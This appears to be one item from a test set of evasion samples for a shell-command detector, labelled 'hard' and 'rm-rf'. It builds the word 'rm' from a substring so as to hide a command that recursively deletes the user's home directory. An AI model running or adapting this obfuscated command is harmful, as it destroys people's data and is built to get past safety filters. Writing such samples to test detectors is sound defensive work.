# evasion: command built from substrings
# grade: hard; does: rm-rf
s=xxrmxx
${s:2:2} -rf ~
